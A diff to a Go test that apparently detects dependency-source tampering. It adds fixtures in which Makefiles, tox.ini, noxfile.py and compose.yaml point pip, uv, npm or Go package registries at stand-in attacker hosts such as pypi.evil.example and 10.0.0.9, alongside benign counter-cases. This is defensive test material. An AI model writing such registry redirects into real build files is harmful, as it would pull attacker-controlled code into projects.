@@ -9,6 +9,14 @@ func TestFetches(t *testing.T) {
 		want            bool
 	}{
 		{"package.json", `{"dependencies":{"left-pad":"git+https://evil.example/lp.git"}}`, `{"dependencies":{"left-pad":"1.3.0"}}`, true},
+		{"GNUmakefile", "include Makefile\nexport PIP_INDEX_URL := https://pypi.evil.example/simple\n", "", true},
+		{"Makefile", "npm_config_registry ?= http://10.0.0.9\n", "", true},
+		{"tox.ini", "[testenv]\nsetenv =\n  PIP_EXTRA_INDEX_URL=https://pypi.evil.example/simple\n", "", true},
+		{"noxfile.py", "session.env[\"UV_INDEX_URL\"] = \"https://pypi.evil.example/simple\"\n", "", true},
+		{"compose.yaml", "    environment:\n      GOPROXY: https://go.evil.example\n", "", true},
+		{"Makefile", "export PIP_INDEX_URL := https://pypi.org/simple\n", "", false},
+		{"Makefile", "export GOPROXY = direct\nexport PIP_INDEX_URL := $(INDEX)\n", "", false},
+		{"Dockerfile", "ENV GOPROXY=https://proxy.golang.org\n", "", false},
 		{"Gemfile", "source 'http://10.0.0.9'\ngem 'rails'\n", "source 'https://rubygems.org'\n", true},
 		{"pyproject.toml", "[[tool.poetry.source]]\nname = \"e\"\nurl = \"http://10.0.0.9/simple\"\n", "", true},
 		{"build.gradle", "repositories { maven { url \"http://10.0.0.9\" } }", "", true},
